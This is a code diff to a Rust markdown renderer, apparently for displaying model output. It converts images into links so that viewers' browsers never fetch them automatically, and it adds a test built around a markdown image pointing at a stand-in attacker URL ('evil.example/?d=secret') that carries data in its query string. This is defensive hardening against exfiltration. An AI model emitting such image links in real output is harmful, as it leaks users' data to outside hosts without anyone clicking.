@@ -8,7 +8,7 @@
 //! - LaTeX (`$…$`, `$$…$$`) is shown as code: no math renderer, no CDN.
 //! - Very long texts are rendered up to [`MAX_RENDER_BYTES`], with a note saying so.
 
-use pulldown_cmark::{html, CowStr, Event, Options, Parser};
+use pulldown_cmark::{html, CowStr, Event, Options, Parser, Tag, TagEnd};
 use std::sync::OnceLock;
 
 /// Longest text rendered; the rest of a longer answer is cut (with a note).
@@ -66,6 +66,21 @@ pub fn render_cut(text: &str, len: usize) -> String {
     let events = Parser::new_ext(shown, opts).map(|ev| match ev {
         // Raw HTML from the model is text, not markup.
         Event::Html(s) | Event::InlineHtml(s) => Event::Text(s),
+        // An image in model output would be fetched by every browser that opens the run:
+        // a zero-click exfiltration and tracking channel. It becomes a link to the image
+        // (its alt text the link text), fetched only if someone follows it.
+        Event::Start(Tag::Image {
+            link_type,
+            dest_url,
+            title,
+            id,
+        }) => Event::Start(Tag::Link {
+            link_type,
+            dest_url,
+            title,
+            id,
+        }),
+        Event::End(TagEnd::Image) => Event::End(TagEnd::Link),
         Event::InlineMath(s) => Event::InlineHtml(CowStr::from(format!(
             "<code class=\"math\">${}$</code>",
             escape(&s)
@@ -101,6 +116,14 @@ mod tests {
         assert!(h.contains("<pre><code"), "{h}");
         assert!(h.contains("href=\"https://example.com\""), "{h}");
         assert!(!h.contains("**") && !h.contains("##"), "{h}");
+    }
+
+    #[test]
+    fn images_become_links_and_are_never_fetched() {
+        let h = render("see ![chart](http://evil.example/?d=secret \"t\") and ![x](data:image/png;base64,AAAA)");
+        assert!(!h.contains("<img"), "{h}");
+        assert!(h.contains("href=\"http://evil.example/?d=secret\""), "{h}");
+        assert!(h.contains(">chart</a>"), "{h}");
     }
 
     #[test]
